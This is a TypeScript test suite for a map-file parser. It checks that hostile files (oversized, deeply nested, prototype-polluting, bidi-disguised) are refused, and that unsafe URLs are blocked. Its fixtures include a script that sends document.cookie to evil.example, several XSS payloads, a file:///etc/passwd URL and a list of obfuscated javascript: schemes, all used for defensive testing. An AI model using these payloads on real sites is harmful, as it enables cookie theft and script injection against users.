import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { decodeMapBytes } from '../../src/io/decode';
import { migrate, type RawDocument } from '../../src/io/migrations';
import { parseMap, type ParseResult } from '../../src/io/parse';
import { parseErrorLines } from '../../src/io/parseError';
import { serializeMap } from '../../src/io/serialize';
import { isSafeUrl } from '../../src/model/source';
import { textProblem } from '../../src/model/text';
import { LIMITS } from '../../src/model/limits';
import { validDoc } from './helpers/maps';

/*
 * One file per kind of bad input, read the way the app and the CLI read a file (bytes, then
 * decodeMapBytes, then parseMap), each with every line a user must see, in expected.json.
 * A fixture without an expectation, or an expectation without a fixture, fails the suite.
 */
const DIR = 'tests/fixtures/hostile';
const EXPECTED_FILE = 'expected.json';
const MAX_FIXTURE_BYTES = 20 * 1024;

type Expectation = 'opens' | string[];
const expected = JSON.parse(readFileSync(join(DIR, EXPECTED_FILE), 'utf8')) as Record<
  string,
  Expectation
>;
const fixtures = readdirSync(DIR)
  .filter((name) => !name.startsWith('.') && name !== EXPECTED_FILE)
  .sort();

const bytesOf = (name: string) => new Uint8Array(readFileSync(join(DIR, name)));

/** What the app does with a file's bytes. */
function open(bytes: Uint8Array): ParseResult {
  const decoded = decodeMapBytes(bytes);
  return decoded.ok ? parseMap(decoded.text) : decoded;
}

/** "opens", or every line the user reads. */
function outcome(result: ParseResult): Expectation {
  return result.ok ? 'opens' : parseErrorLines(result.error);
}

const utf8 = (text: string) => new TextEncoder().encode(text);
const ownNames = () => ({
  object: Object.getOwnPropertyNames(Object.prototype).sort(),
  array: Object.getOwnPropertyNames(Array.prototype).sort(),
});

describe('hostile fixtures', () => {
  it('every fixture has an expectation and every expectation a fixture', () => {
    expect(fixtures).toEqual(Object.keys(expected).sort());
  });

  it.each(fixtures)('%s is small enough to commit', (name) => {
    expect(statSync(join(DIR, name)).size).toBeLessThan(MAX_FIXTURE_BYTES);
  });

  it.each(fixtures)('%s', (name) => {
    expect(outcome(open(bytesOf(name)))).toEqual(expected[name]);
  });

  it('the files that open keep every value exactly as written', () => {
    for (const name of fixtures.filter((f) => expected[f] === 'opens')) {
      const decoded = decodeMapBytes(bytesOf(name));
      if (!decoded.ok) throw new Error(`${name} did not decode`);
      const result = parseMap(decoded.text);
      if (!result.ok) throw new Error(`${name} did not open`);
      // Exactly as written, once brought to this version (a version-1 file's quotes get ids).
      const written = JSON.parse(decoded.text) as RawDocument;
      const migrated = migrate(written, written.version as number);
      if (!migrated.ok) throw new Error(`${name} did not migrate`);
      expect(result.map, name).toStrictEqual(migrated.document);
    }
  });

  it('HTML and script in text are only text: accepted and kept verbatim', () => {
    const result = open(bytesOf('html-in-text.clashmap.json'));
    if (!result.ok) throw new Error('html-in-text did not open');
    const { map } = result;
    expect(map.title).toBe('<script>alert("title")</script>');
    expect(map.nodes[0]!.text).toBe(
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
    );
    expect(map.nodes[0]!.notes).toContain('<a href="javascript:alert(1)">click</a>');
    expect(map.nodes[1]!.evidence[0]!.speaker).toBe(
      '<b onmouseover=alert(3)>Claudia Sheinbaum</b>',
    );
    // Saving writes the same characters back: nothing is escaped into entities or stripped.
    const reopened = parseMap(serializeMap(map));
    expect(reopened.ok && reopened.map).toStrictEqual(map);
  });

  it('a UTF-8 byte order mark is dropped and the map opens', () => {
    const bytes = bytesOf('bom-utf8.clashmap.json');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(outcome(open(bytes))).toBe('opens');
  });

  it('the UTF-16 fixtures really are UTF-16, with and without a byte order mark', () => {
    expect([...bytesOf('utf16le.clashmap.json').subarray(0, 4)]).toEqual([0xff, 0xfe, 0x7b, 0]);
    expect([...bytesOf('utf16be.clashmap.json').subarray(0, 4)]).toEqual([0xfe, 0xff, 0, 0x7b]);
    expect([...bytesOf('utf16le-no-bom.clashmap.json').subarray(0, 4)]).toEqual([0x7b, 0, 0x0a, 0]);
  });

  it('no fixture touches Object.prototype or Array.prototype', () => {
    const before = ownNames();
    for (const name of fixtures) open(bytesOf(name));
    expect(ownNames()).toEqual(before);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });
});

// Each builds and reads up to 10 MB; generous time for a busy two-core runner.
describe('hostile files too big to commit, generated', { timeout: 30_000 }, () => {
  const refusal = (result: ParseResult) => {
    if (result.ok) throw new Error('expected a refusal');
    return { kind: result.error.kind, lines: parseErrorLines(result.error) };
  };

  it('a file over 10 MB is refused from its size, before it is decoded', () => {
    const bytes = utf8(`{"format":"clashmap","title":"${'x'.repeat(LIMITS.fileBytes)}"}`);
    expect(refusal(open(bytes))).toEqual({
      kind: 'tooLarge',
      lines: ['This file is too large to open.', 'the file is 10.1 MB; the limit is 10 MB'],
    });
  });

  it('text over 10 MB handed to parseMap is refused before JSON.parse', () => {
    const text = `[${'0,'.repeat(LIMITS.fileBytes / 2)}0]`;
    expect(refusal(parseMap(text))).toEqual({
      kind: 'tooLarge',
      lines: ['This file is too large to open.', 'the file is larger than the 10 MB limit'],
    });
  });

  const claim = (i: number) => ({ id: `n${i}`, kind: 'claim', text: 'x', evidence: [] });

  it('too many nodes', () => {
    const doc = {
      ...validDoc(),
      nodes: Array.from({ length: LIMITS.nodes + 1 }, (_, i) => claim(i)),
    };
    doc.edges = [];
    expect(refusal(open(utf8(JSON.stringify(doc))))).toEqual({
      kind: 'invalidContent',
      lines: [
        'This map file has a problem.',
        `nodes: has ${(LIMITS.nodes + 1).toLocaleString('en-US')} entries; a map may have at most ${LIMITS.nodes.toLocaleString('en-US')}`,
      ],
    });
  });

  it('too many edges, and too many nodes, reported together', () => {
    const nodes = LIMITS.nodes + 1;
    const doc = {
      ...validDoc(),
      nodes: Array.from({ length: nodes }, (_, i) => claim(i)),
      edges: Array.from({ length: LIMITS.edges + 1 }, (_, i) => ({
        id: `e${i}`,
        from: `n${i % nodes}`,
        to: `n${(i + 1) % nodes}`,
        kind: 'support',
      })),
    };
    expect(refusal(open(utf8(JSON.stringify(doc))))).toEqual({
      kind: 'invalidContent',
      lines: [
        'This map file has 2 problems.',
        `nodes: has ${nodes.toLocaleString('en-US')} entries; a map may have at most ${LIMITS.nodes.toLocaleString('en-US')}`,
        'edges: has 20,001 entries; a map may have at most 20,000',
      ],
    });
  });

  it('a hostile 10 MB list inside a node is refused by its length, not read entry by entry', () => {
    const doc = validDoc();
    doc.nodes[0]!.tags = Array.from({ length: 2_000_000 }, () => 1);
    const started = performance.now();
    expect(refusal(open(utf8(JSON.stringify(doc))))).toEqual({
      kind: 'invalidContent',
      lines: ['This map file has a problem.', 'nodes[0].tags: has more than 30 tags'],
    });
    // Generous: the point is that it is not the seconds a schema pass over 2,000,000 entries took.
    expect(performance.now() - started).toBeLessThan(3_000);
  });

  const DEPTH = 100_000;

  it(`a ${DEPTH.toLocaleString('en-US')}-deep list is refused without overflowing the stack`, () => {
    const text = `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`;
    expect(refusal(open(utf8(text)))).toEqual({
      kind: 'invalidContent',
      lines: [
        'This map file has a problem.',
        `${'[0]'.repeat(LIMITS.depth)}: is nested more than 32 levels deep, far deeper than any map needs`,
      ],
    });
  });

  it(`${DEPTH.toLocaleString('en-US')} nested objects, and the same cut short`, () => {
    const whole = `${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`;
    expect(refusal(open(utf8(whole))).lines).toEqual([
      'This map file has a problem.',
      `${'a.'.repeat(LIMITS.depth - 1)}a: is nested more than 32 levels deep, far deeper than any map needs`,
    ]);
    expect(refusal(open(utf8('{"a":'.repeat(DEPTH)))).lines).toEqual([
      `This file is not valid JSON (line 1, column ${5 * DEPTH + 1}).`,
      `line 1, column ${5 * DEPTH + 1}: the file ends where a value was expected`,
    ]);
  });

  it('a truncated deep file is located by the iterative scanner, not a recursive one', () => {
    const text = `${'['.repeat(DEPTH)}1,`;
    expect(refusal(open(utf8(text))).lines).toEqual([
      `This file is not valid JSON (line 1, column ${DEPTH + 3}).`,
      `line 1, column ${DEPTH + 3}: the file ends where a value was expected`,
    ]);
    expect(refusal(open(utf8('['.repeat(DEPTH)))).lines).toEqual([
      `This file is not valid JSON (line 1, column ${DEPTH + 1}).`,
      `line 1, column ${DEPTH + 1}: the file ends where a value was expected`,
    ]);
  });

  it('a syntax error after a number longer than 400 digits is found where it is', () => {
    const text = `{"x": ${'9'.repeat(1_000)} "y": 1}`;
    expect(refusal(parseMap(text)).lines).toEqual([
      'This file is not valid JSON (line 1, column 1008).',
      'line 1, column 1008: expected "," or "}" but found "\\""',
    ]);
  });
});

describe('hardening rules, one by one', () => {
  it.each([
    ['\u202A', 'embedding'],
    ['\u202B', 'embedding'],
    ['\u202C', 'formatting character'],
    ['\u202D', 'override'],
    ['\u202E', 'override'],
    ['\u2066', 'isolate'],
    ['\u2067', 'isolate'],
    ['\u2068', 'isolate'],
    ['\u2069', 'formatting character'],
  ])('text with the bidirectional control %j is refused, naming it', (char, name) => {
    const code = `U+${char.charCodeAt(0).toString(16).toUpperCase()}`;
    expect(textProblem(`abc ${char} def`)).toBe(
      `contains an invisible bidirectional ${name} (${code}) that can disguise text`,
    );
  });

  it.each([
    ['a left-to-right mark', 'Hebrew \u05e9\u05dc\u05d5\u05dd\u200e (2025)'],
    ['a right-to-left mark', 'Arabic \u0645\u0631\u062d\u0628\u0627\u200f!'],
    ['an Arabic letter mark', '\u0627\u0644\u0639\u0631\u0628\u064a\u0629\u061c 3'],
    ['zero-width joiners in an emoji', 'family \u{1F468}\u200D\u{1F469}\u200D\u{1F467}'],
    ['a zero-width non-joiner in Persian', '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'],
  ])('text with %s is fine', (_, text) => {
    expect(textProblem(text)).toBeNull();
  });

  it.each([
    'https://example.org/',
    'http://example.org/a?b=c#d',
    'HTTPS://Example.ORG/Report',
    'https://例え.jp/記事',
    'https://example.org/search?q=<b>&x="y"',
  ])('the URL %j is allowed', (url) => {
    expect(isSafeUrl(url)).toBe(true);
  });

  it.each([
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java\rscript:alert(1)',
    'javascript&colon;alert(1)',
    '&#x6A;avascript:alert(1)',
    '\u0000javascript:alert(1)',
    'javascript://https://example.org/%0aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'blob:https://example.org/1',
    'file:///etc/passwd',
    'ftp://example.org/',
    // Plain http(s) that only becomes one after the URL parser strips or decodes something.
    ' https://example.org/',
    'https://example.org/\n',
    'ht\ttps://example.org/',
    'https://exa\u00admple.org/',
    'https://exa\u200bmple.org/',
    'https://\u202eexample.org/',
    'https://example.org/\u2028',
    'https:example.org',
    'https:/example.org',
    'https:\\\\example.org',
    '//example.org/',
    'https://',
    'https://exa mple.org/',
  ])('the URL %j is refused', (url) => {
    expect(isSafeUrl(url)).toBe(false);
  });

  it('ids are ASCII: zero-width and look-alike characters are refused', () => {
    for (const id of ['cla\u200bim', 'cl\u0430im', 'claim\u200d', '\ufeffclaim', 'claim\n']) {
      const text = JSON.stringify({
        ...validDoc(),
        edges: [],
        nodes: [{ ...validDoc().nodes[0], id }],
      });
      const result = parseMap(text);
      expect(result.ok, JSON.stringify(id)).toBe(false);
      if (!result.ok)
        expect(parseErrorLines(result.error)[1]).toMatch(/^nodes\[0\]\.id: must start with/);
    }
  });

  it('messages escape invisible characters they quote from the file', () => {
    const doc = { ...validDoc(), format: 'clash\u202emap' };
    const result = parseMap(JSON.stringify(doc));
    expect(!result.ok && parseErrorLines(result.error)).toEqual([
      'This is not a Clashmap map file.',
      'format: is the text "clash\\u202emap", not "clashmap"',
    ]);
  });

  it('a non-JSON character is named by its code point when it would not show', () => {
    const result = parseMap('\u00a0{}');
    expect(!result.ok && parseErrorLines(result.error)[1]).toBe(
      'line 1, column 1: unexpected U+00A0 (a space) where a value was expected',
    );
  });
});
